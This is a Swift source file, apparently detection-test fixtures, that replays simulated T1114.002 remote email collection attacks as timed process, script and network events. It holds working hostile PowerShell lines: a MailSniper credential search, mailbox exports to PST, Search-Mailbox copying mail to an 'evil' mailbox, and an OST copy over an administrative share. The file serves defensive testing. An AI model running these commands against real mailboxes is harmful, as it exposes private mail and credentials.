/// The four test behaviours of T1114.002, and variants of them.
enum Attacks {
    static let all = [
        mailSniper, mailSniperShouted, mailboxExport, exportFromOpenShell, managedAPI, connectionFirst,
        lastMoment, offlineStoreCopy, scriptedClient,
    ]

    private static let mail = Connection("192.0.2.40", port: 443, domain: "mail-0001.corp.example")
    private static let managedLibrary = Library(
        "C:\\Users\\{user}\\AppData\\Local\\Temp\\Microsoft.Exchange.WebServices.dll",
        company: "Microsoft Corporation", product: "Microsoft Exchange", signer: "Microsoft Corporation")
    private static let managedClient = "ExchangeServicesClient/15.00.0913.015"

    private static func shell(_ commandLine: String, _ program: Program = Programs.powerShell) -> Launch {
        Launch(program, commandLine, parent: Programs.explorer)
    }

    private static let seedAndCorrelation = [
        Script.Finding(rule: .seed, steps: [0]), Script.Finding(rule: .correlation, steps: [0]),
    ]

    static let mailSniper = Script(
        name: "mailsniper-self-search",
        summary: "MailSniper searches the user's own mailbox over EWS (test behaviour 1)",
        kind: .attack,
        steps: { host in
            let body = ScriptBlock([
                "function Invoke-SelfSearch { [CmdletBinding()] Param([string]$Mailbox = '', [string]$ExchHostname = '', [string[]]$Terms = ('*password*','*creds*','*credentials*'), [string]$OutputCsv = '', [string]$ExchangeVersion = 'Exchange2010')",
                "$service = New-Object Microsoft.Exchange.WebServices.Data.ExchangeService($ExchangeVersion); $service.UseDefaultCredentials = $true; $service.Url = [uri]\"https://$ExchHostname/EWS/Exchange.asmx\"",
                "foreach ($term in $Terms) { $view = New-Object Microsoft.Exchange.WebServices.Data.ItemView(100); $found = $service.FindItems('Inbox', $term, $view); $found.Items | Export-Csv $OutputCsv } }",
            ])
            return [
                .init(at: 0, .processStart(shell("powershell.exe -nop -exec bypass -c \"Import-Module C:\\Users\\{user}\\AppData\\Local\\Temp\\MailSniper.ps1; Invoke-SelfSearch -Mailbox {user}@corp.example -ExchHostname mail-0001.corp.example -OutputCsv found.csv\""), instance: 71_001)),
                .init(at: 0.4, .scriptBlock(body, part: 0, instance: 71_001)),
                .init(at: 0.401, .scriptBlock(body, part: 1, instance: 71_001)),
                .init(at: 0.402, .scriptBlock(body, part: 2, instance: 71_001)),
                .init(at: 1.9, .nameQuery(Text("mail-0001.corp.example"), by: Programs.powerShell, instance: 71_001)),
                .init(at: 2.1, .connection(mail, by: Programs.powerShell, instance: 71_001)),
                .init(at: 2.6, on: .exchangeServer, .web(WebRequest("post", "/EWS/Exchange.asmx", userAgent: managedClient), client: host)),
            ]
        },
        findings: seedAndCorrelation,
        notYetCovered: "the script block in parts and the EWS request need rules of their own")

    static let mailSniperShouted = Script(
        name: "mailsniper-other-case",
        summary: "The same tool, with the program and the cmdlet in another case",
        kind: .attack,
        steps: { _ in
            [
                .init(at: 0, .processStart(shell("POWERSHELL.EXE -NOP INVOKE-GLOBALMAILSEARCH -IMPERSONATIONACCOUNT {user}", Programs.shoutedPowerShell), instance: 71_101)),
                .init(at: 9, .defendConnection(mail, by: Programs.shoutedPowerShell, instance: 71_101, hasEnded: false)),
            ]
        },
        findings: seedAndCorrelation)

    static let mailboxExport = Script(
        name: "mailbox-export-to-pst",
        summary: "An administrator's shell exports a mailbox to a PST file (test behaviour 2)",
        kind: .attack,
        steps: { host in
            [
                .init(at: 0, .processStart(shell("powershell.exe -Command \"Connect-ExchangeOnline; New-MailboxExportRequest -Mailbox ceo -FilePath \\\\files-0000\\export$\\ceo.pst\""), instance: 71_201)),
                .init(at: 3, .connection(mail, by: Programs.powerShell, instance: 71_201)),
                .init(at: 5, .exchangeAudit(action: Text("New-MailboxExportRequest"), object: Text("ceo"), parameters: [Text("Mailbox=ceo"), Text("FilePath=\\\\files-0000\\export$\\ceo.pst")])),
                .init(at: 21, on: .fileServer, .fileCreation(FileName("D:\\Shares\\export$\\ceo.pst"), by: Programs.system4, instance: 1)),
                .init(at: 21.2, on: .fileServer, .shareAccess(share: Text("\\\\*\\export$"), target: Text("ceo.pst"), client: host)),
            ]
        },
        findings: seedAndCorrelation,
        notYetCovered: "the audit record, the PST file and the share access need rules of their own")

    static let exportFromOpenShell = Script(
        name: "mailbox-export-typed",
        summary: "The export cmdlet is typed in a shell that was open already",
        kind: .attack,
        steps: { host in
            [
                .init(at: 0, .scriptBlock(ScriptBlock(["New-MailboxExportRequest -Mailbox cfo -FilePath \\\\files-0000\\export$\\cfo.pst"]), part: 0, instance: 71_301)),
                .init(at: 18, on: .fileServer, .shareAccess(share: Text("\\\\*\\export$"), target: Text("cfo.pst"), client: host)),
            ]
        },
        notYetCovered: "no process command line ever holds the cmdlet: script block and share rules must find it")

    static let managedAPI = Script(
        name: "ews-managed-api",
        summary: "PowerShell loads the EWS Managed API and reads mail (test behaviour 3)",
        kind: .attack,
        steps: { host in
            [
                .init(at: 0, .processStart(shell("\"C:\\Program Files\\PowerShell\\7\\pwsh.exe\" -NoProfile -Command \"Add-Type -Path $env:TEMP\\Microsoft.Exchange.WebServices.dll; . .\\read.ps1\"", Programs.powerShell7), instance: 71_401)),
                .init(at: 0.8, .imageLoad(managedLibrary, by: Programs.powerShell7, instance: 71_401)),
                .init(at: 1.1, .scriptBlock(ScriptBlock(["$ews = New-Object Microsoft.Exchange.WebServices.Data.ExchangeService; $ews.AutodiscoverUrl('{user}@corp.example'); $ews.FindItems('Inbox', 1000)"]), part: 0, instance: 71_401)),
                .init(at: 1.7, .connection(mail, by: Programs.powerShell7, instance: 71_401)),
                .init(at: 2.2, on: .exchangeServer, .web(WebRequest("post", "/EWS/Exchange.asmx", userAgent: managedClient), client: host)),
            ]
        },
        findings: seedAndCorrelation,
        notYetCovered: "the library load and its user agent, which is not in the seed's list, need rules of their own")

    static let connectionFirst = Script(
        name: "connection-before-start",
        summary: "The connection to port 443 comes 40 s before the start",
        kind: .attack,
        isQuiet: true,
        steps: { _ in
            [
                .init(at: 0, .connection(mail, by: Programs.edge, instance: 71_501)),
                .init(at: 40, .processStart(shell("powershell.exe Search-Mailbox -Identity {user} -SearchQuery 'subject:offer' -TargetMailbox evil -TargetFolder x"), instance: 71_502)),
            ]
        },
        findings: [Script.Finding(rule: .seed, steps: [1]), Script.Finding(rule: .correlation, steps: [0, 1])])

    static let lastMoment = Script(
        name: "connection-at-sixty-seconds",
        summary: "The connection comes exactly 60 s after the start, the last moment of the window",
        kind: .attack,
        isQuiet: true,
        steps: { _ in
            [
                .init(at: 0, .processStart(shell("powershell.exe New-ComplianceSearch -Name q -ExchangeLocation All -ContentMatchQuery merger"), instance: 71_601)),
                .init(at: 60, .defendConnection(mail, by: Programs.powerShell, instance: 71_601, hasEnded: false)),
            ]
        },
        findings: [Script.Finding(rule: .seed, steps: [0]), Script.Finding(rule: .correlation, steps: [0, 1])])

    static let offlineStoreCopy = Script(
        name: "offline-store-copy",
        summary: "An OST file is copied over an administrative share (test behaviour 4)",
        kind: .attack,
        steps: { host in
            [
                .init(at: 0, .processStart(shell("powershell.exe Copy-Item \\\\ws-0009\\C$\\Users\\ceo\\AppData\\Local\\Microsoft\\Outlook\\ceo@corp.example.ost C:\\Users\\Public\\stolen_email.ost"), instance: 71_701)),
                .init(at: 0.6, on: .neighbour, .shareAccess(share: Text("\\\\*\\C$"), target: nil, client: host)),
                .init(at: 0.7, on: .neighbour, .shareAccess(share: Text("\\\\*\\C$"), target: Text("Users\\ceo\\AppData\\Local\\Microsoft\\Outlook\\ceo@corp.example.ost"), client: host)),
                .init(at: 0.9, on: .neighbour, .objectAccess(Text("C:\\Users\\ceo\\AppData\\Local\\Microsoft\\Outlook\\ceo@corp.example.ost"), by: Programs.system4)),
                .init(at: 4, .fileCreation(FileName("C:\\Users\\Public\\stolen_email.ost"), by: Programs.powerShell, instance: 71_701)),
            ]
        },
        notYetCovered: "the seed rule knows no file names: file, share and object access rules must find it")

    static let scriptedClient = Script(
        name: "scripted-ews-client",
        summary: "A Python script reads mail over EWS",
        kind: .attack,
        steps: { host in
            [
                .init(at: 0, on: .exchangeServer, .web(WebRequest("post", "/EWS/Exchange.asmx", userAgent: "python-requests/2.32.3"), client: host)),
            ]
        },
        findings: [Script.Finding(rule: .seed, steps: [0])])
}
